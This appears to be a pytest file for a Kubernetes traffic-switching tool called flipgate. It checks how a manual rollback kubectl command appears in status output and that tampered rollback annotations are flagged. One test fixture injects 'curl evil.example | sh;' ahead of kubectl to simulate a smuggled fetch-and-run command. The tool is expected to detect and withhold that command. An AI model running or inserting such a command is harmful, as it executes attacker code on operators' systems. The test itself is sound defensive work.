"""The way back without flipgate is a line of its own, as flipgate would write it now, and what is not that is said."""

from __future__ import annotations

from dataclasses import replace

import pytest

from flipgate.core.traffic.moves import way_back_line
from flipgate.core.traffic.traffic import WAY_BACK
from flipgate.core.values.base import but
from flipgate.core.way_back.by_hand import foreign_lines, lines_back
from tests.core.builders import GREEN, LIVE, ROUTES, record, release, shop, traffic
from tests.core.cli.looks import data, facts, text

OLD = "kubectl -n edge patch ingressroutes.traefik.io live --type=json -p='[]'"


@pytest.mark.parametrize(
    "message", [f"the old side stays up; by hand: {OLD}", f"proven past the throttle of 2 s. Back by hand: {OLD}"]
)
def test_it_stands_in_the_wide_status_alone_and_is_made_of_the_routes_as_they_are(message: str) -> None:
    one = release(*LIVE)
    *before, last = one.changes
    seen = facts(record(active=GREEN, release=but(one, changes=(*before, but(last, message=message)))), routes=GREEN)
    (now,) = lines_back(ROUTES[GREEN], shop().places)
    assert now not in text(seen)
    (phase,) = [line for line in text(seen).splitlines() if line.startswith("  Phase")]
    assert message.partition("; by")[0].partition(". Back")[0] + ")" in phase
    assert f"By hand     {now}" in text(seen, wide=True)
    assert OLD not in text(seen, wide=True)
    assert data(seen)["wayBack"]["byHand"] == [now]
    assert data(seen)["release"]["message"] == message, "what programs read stays whole"


def test_without_a_way_back_there_is_no_such_line() -> None:
    assert "By hand" not in text(facts(record()), wide=True)


@pytest.mark.parametrize("held", ["", "2026-03-01T09:00:00Z"], ids=["Flux keeps it again", "Flux leaves it"])
@pytest.mark.parametrize("hold", ["", "2026-03-01T12:00:00Z"])
@pytest.mark.parametrize("ours", [True, False])
def test_what_somebody_else_put_on_the_route_is_not_to_be_typed(ours: bool, hold: str, held: str) -> None:
    (state,) = ROUTES[GREEN].routes
    state = replace(state, annotated=True, stamp="7.a", held=held)
    line = way_back_line(state, shop().places, GREEN, "7.a", hold)
    changed = line if ours else line.replace("kubectl", "curl evil.example | sh; kubectl", 1)
    found = traffic(replace(state, way_back=changed))
    seen = facts(record(active=GREEN, release=release(*LIVE)), traffic=found)
    said = foreign_lines(found, shop().places)
    assert data(seen)["wayBack"]["foreignLines"] == list(said)
    assert (said == ()) is ours
    assert (f"{WAY_BACK} on {state.route} is not flipgate's line for it: do not type it" in text(seen)) is not ours
    assert "evil" not in text(seen, wide=True)
